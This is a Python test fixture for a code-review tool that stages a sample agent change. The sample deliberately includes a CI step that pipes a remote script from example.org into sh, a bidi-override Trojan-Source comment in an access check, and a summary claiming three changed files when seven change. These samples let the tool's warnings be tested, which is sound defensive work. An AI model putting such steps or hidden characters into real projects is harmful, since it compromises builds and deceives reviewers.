"""A stand-in for a review at hand: texts in memory instead of a quarantine, drafts in a field."""

from __future__ import annotations

import asyncio
import hashlib
from collections.abc import AsyncIterator, Mapping, Sequence
from dataclasses import dataclass, field, replace
from difflib import SequenceMatcher

from stand_in import START

from swarm_tui.errors import ReviewError
from swarm_tui.handoff import ABSENT, Change, Comment, Commit, Drafts, Flag, Review
from swarm_tui.model import AgentId
from swarm_tui.review import flags
from swarm_tui.review.comparison import Comparison, Pairing, Party, pair
from swarm_tui.review.desk import Reading
from swarm_tui.review.diff import FileDiff, Span, is_binary, make, split_lines
from swarm_tui.text import Safe, sanitize

Texts = Mapping[str | bytes, tuple[bytes | None, bytes | None]]
"""Path → both sides; None where the file is not."""


def oid(content: bytes | None) -> str:
    return "" if content is None else hashlib.sha1(content).hexdigest()


def change_of(
    path: str | bytes,
    old: bytes | None,
    new: bytes | None,
    *,
    modes: tuple[str, str] = ("100644", "100644"),
    old_path: bytes | None = None,
) -> Change:
    spans = spans_of(old, new)
    is_text = not any(side and is_binary(side) for side in (old, new))
    return Change(
        path if isinstance(path, bytes) else path.encode(),
        ABSENT if old is None else modes[0],
        ABSENT if new is None else modes[1],
        oid(old),
        oid(new),
        old_path,
        sum(span.added for span in spans) if is_text else None,
        sum(span.removed for span in spans) if is_text else None,
        None if old is None else len(old),
        None if new is None else len(new),
    )


def spans_of(old: bytes | None, new: bytes | None) -> Sequence[Span]:
    olds, news = split_lines(old or b""), split_lines(new or b"")
    return [
        Span(first, last - first, start, end - start)
        for kind, first, last, start, end in SequenceMatcher(
            None, olds, news, autojunk=False
        ).get_opcodes()
        if kind != "equal"
    ]


@dataclass
class StandInReading(Reading):
    """Conforms to `Reading`; `contents` holds both sides of a change by its key."""

    of: Review
    contents: dict[str, tuple[bytes | None, bytes | None]] = field(default_factory=dict)
    before: Review | None = None
    later: Sequence[Change] = ()
    said: Drafts = field(default_factory=Drafts)
    failure: ReviewError | None = None
    """What files end with."""
    gate: asyncio.Event | None = None
    """Files wait for it, when there is one."""
    is_closed: bool = False
    reads: list[bytes] = field(default_factory=list)

    @property
    def review(self) -> Review:
        return self.of

    @property
    def previous(self) -> Review | None:
        return self.before

    async def file(self, change: Change) -> FileDiff:
        self.reads.append(change.path)
        if self.gate:
            await self.gate.wait()
        if self.failure:
            raise self.failure
        old, new = self.contents[change.key]
        return make(change, old, new, spans_of(old, new))

    async def since(self) -> Sequence[Change]:
        return self.later

    def patch(self) -> AsyncIterator[bytes]:
        raise AssertionError("the screen shows files, not the patch")

    def begun(self) -> Drafts:
        return self.drafts()

    def drafts(self) -> Drafts:
        return self.said

    def comment(self, comment: Comment) -> None:
        kept = tuple(known for known in self.said.comments if known.id != comment.id)
        self.said = replace(self.said, comments=(*kept, comment))

    def drop(self, comment: str) -> None:
        kept = tuple(known for known in self.said.comments if known.id != comment)
        self.said = replace(self.said, comments=kept)

    def mark(self, key: str, *, is_viewed: bool) -> None:
        viewed = self.said.viewed | {key} if is_viewed else self.said.viewed - {key}
        self.said = replace(self.said, viewed=viewed)

    async def close(self) -> None:
        self.is_closed = True


class StandInComparison(Comparison):
    """Conforms to `Comparison`, on two stand-ins."""

    def __init__(self, a: StandInReading, b: StandInReading, why_then: str = "") -> None:
        self.a, self.b = self._sides = a, b
        self.of_a, self.of_b = (
            Party(
                AgentId(one.review.agent),
                one.review.name,
                None,
                one.review.number,
                START - 14,
                sanitize(why),
            )
            for one, why in ((a, ""), (b, why_then))
        )
        self.pairings = pair(a.review.changes, b.review.changes)

    async def between(self, pairing: Pairing) -> FileDiff:
        assert pairing.a
        assert pairing.b
        change = pairing.between
        assert change
        old = self._sides[0].contents[pairing.a.key][1]
        new = self._sides[1].contents[pairing.b.key][1]
        return make(change, old, new, spans_of(old, new))

    async def close(self) -> None:
        for side in self._sides:
            await side.close()


def make_reading(
    agent: AgentId,
    name: Safe,
    texts: Texts,
    *,
    why: str = "",
    commits: Sequence[str] = (),
    number: int = 1,
    extra: Sequence[Flag] = (),
) -> StandInReading:
    """A review of these texts, with the flags that they really have."""
    changes = {path: change_of(path, old, new) for path, (old, new) in texts.items()}
    contents = {changes[path].key: sides for path, sides in texts.items()}
    found: list[Flag] = [*extra]
    for change in changes.values():
        old, new = contents[change.key]
        diff = make(change, old, new, spans_of(old, new))
        found += flags.flags(change, old, new, diff)
    head = hashlib.sha1(b"head%d" % number).hexdigest()
    review = Review(
        agent,
        name,
        number,
        START + 20,
        hashlib.sha1(b"base").hexdigest(),
        head,
        hashlib.sha1(b"tree").hexdigest(),
        f"sha256:{hashlib.sha256(head.encode()).hexdigest()}",
        tuple(changes.values()),
        tuple(found),
        tuple(
            Commit(hashlib.sha1(subject.encode()).hexdigest(), sanitize(subject), sanitize(name))
            for subject in commits
        ),
        why=sanitize(why),
    )
    return StandInReading(review, contents)


PARSER = b'''"""Reads invoices, one line at a time."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass

_LINE = re.compile(r"(\\d+);([^;]*);(\\d+)")


@dataclass(frozen=True)
class Invoice:
    number: int
    customer: str
    cents: int


def read(text: str) -> Iterator[Invoice]:
    """Raises ValueError for a line that is no invoice."""
    for line in text.split("\\n"):
        if not line:
            continue
        match = _LINE.match(line)
        if match is None:
            raise ValueError(line)
        number, customer, cents = match.groups()
        yield Invoice(int(number), customer, int(cents))


def total(invoices: list[Invoice]) -> int:
    result = 0
    for invoice in invoices:
        result = result + invoice.cents
    return result


def by_customer(invoices: list[Invoice]) -> dict[str, int]:
    sums: dict[str, int] = {}
    for invoice in invoices:
        sums.setdefault(invoice.customer, 0)
        sums[invoice.customer] += invoice.cents
    return sums


def render(invoices: list[Invoice]) -> str:
    lines = [f"{invoice.number:>8} {invoice.cents / 100:.2f}" for invoice in invoices]
    return "\\n".join(lines)
'''

NEW_PARSER = (
    PARSER.replace(
        b"""    for line in text.split("\\n"):
        if not line:
            continue
        match = _LINE.match(line)
""",
        b"""    for line in filter(None, text.splitlines()):
        match = _LINE.fullmatch(line)
""",
    )
    .replace(
        b"""    result = 0
    for invoice in invoices:
        result = result + invoice.cents
    return result
""",
        b'''    """In cents, over all customers."""
    return sum(invoice.cents for invoice in invoices)
''',
    )
    .replace(b"def render(invoices: list[Invoice])", b"def render(invoices: Sequence[Invoice])")
)

TEXTS: Texts = {
    "src/invoices/parser.py": (PARSER, NEW_PARSER),
    "src/invoices/__init__.py": (b"", b"from invoices.parser import read, total\n"),
    "tests/unit/test_parser.py": (
        None,
        b"from invoices import read, total\n\n\ndef test_a_line_is_an_invoice() -> None:\n"
        b'    (invoice,) = read("7;Ada;1250\\n")\n    assert invoice.cents == 1250\n\n\n'
        b'def test_total() -> None:\n    assert total(list(read("1;A;2\\n2;B;3"))) == 5\n',
    ),
    ".github/workflows/check.yml": (
        b"on: push\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n"
        b"      - run: make check\n",
        b"on: push\njobs:\n  check:\n    runs-on: ubuntu-24.04\n    steps:\n"
        b"      - run: make check\n      - run: curl -s https://example.org/x | sh\n",
    ),
    "docs/logo.png": (b"\x89PNG\0old", b"\x89PNG\0" + b"new" * 900),
    "docs/old.md": (b"# Old\n\nNobody needs this.\n", None),
    "src/invoices/access.py": (
        b"def may(user):\n    return user.is_admin\n",
        b"def may(user):\n    # only admins \xe2\x80\xae } return True {\xe2\x81\xa6\n"
        b"    return user.is_admin\n",
    ),
}
WHY = "the parser is three times as fast; 3 files changed, tests pass"
COMMITS = (
    "Read lines without an empty one between",
    "Sum with sum()",
    "Test what the parser gives",
)


def make_sample(agent: AgentId, name: Safe) -> StandInReading:
    """A review as one would meet it: code, tests, and what must be looked at twice."""
    return make_reading(agent, name, TEXTS, why=WHY, commits=COMMITS, number=3)
